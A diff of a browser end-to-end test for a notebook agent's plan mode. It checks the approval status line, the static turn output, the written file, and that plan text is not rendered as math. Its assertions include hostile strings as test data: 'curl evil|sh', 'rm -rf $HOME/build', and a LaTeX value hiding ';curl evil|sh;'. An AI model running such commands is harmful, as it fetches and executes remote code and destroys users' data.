@@ -35,7 +35,7 @@ from typing import Any
 
 import pytest
 
-pytestmark = pytest.mark.browser
+pytestmark = [pytest.mark.e2e, pytest.mark.browser]
 
 REPO = Path(__file__).resolve().parents[1]
 NOTEBOOK = REPO / "notebooks" / "02_plan_mode.ipynb"
@@ -321,17 +321,21 @@ def test_plan_mode_notebook_in_a_real_browser(tmp_path: Path) -> None:
             assert m, f"the Approve button should say the mode it goes back to: {tooltip!r}"
             resting = m.group(1)
             approve.click()
-            status = card.locator(".widget-html").last
+            # the status line: a live card's, and the static card's once the turn has ended
+            status = card.locator(".pw-card-status")
             expect(status).not_to_contain_text("Waiting for you")
             expect(status).to_contain_text("Approved", timeout=1000)
             expect(confirmed).to_have_text(f"mode {resting}")
 
             # 4. The approved work runs in the same turn: the file is written, the turn ends
-            # well (its footer shows ✓). The agent works in a scratch folder of the notebook's
-            # (under TMPDIR), which the notebook's last cell removes: look before that.
-            turn = page.locator(".pw-turn").first
-            expect(turn.locator(".widget-html", has_text="✓")).to_have_count(
+            # well (its footer shows ✓) and its output becomes static. The agent works in a
+            # scratch folder of the notebook's (under TMPDIR), which the notebook's last cell
+            # removes: look before that.
+            turn = page.locator(".pw-turn.pw-static").first
+            expect(turn.locator(".pw-footer", has_text="✓")).to_have_count(
                 1, timeout=CELL_TIMEOUT * 1000)
+            expect(turn.locator(".jupyter-widgets")).to_have_count(0)
+            expect(card).to_contain_text("Approved")
             expect(turn).to_contain_text(f"{WRITTEN}")
             written = [p for d in (root, Path(env["TMPDIR"])) for p in d.rglob(WRITTEN)]
             assert written, "the approved plan's file was not written"
@@ -340,7 +344,7 @@ def test_plan_mode_notebook_in_a_real_browser(tmp_path: Path) -> None:
             # the card or in the turn (its Write tool view holds the plan's text as JSON).
             _assert_no_math(turn)
             for tex in PLAN_TEX:
-                expect(md).to_contain_text(tex)
+                expect(card).to_contain_text(tex)
             tool_pre = turn.locator("details.pw-tool pre", has_text="curl evil").first
             assert "rm -rf $HOME/build" in (tool_pre.text_content() or "")
             assert r"\\phantom{;curl evil|sh;}" in (tool_pre.text_content() or "")  # JSON
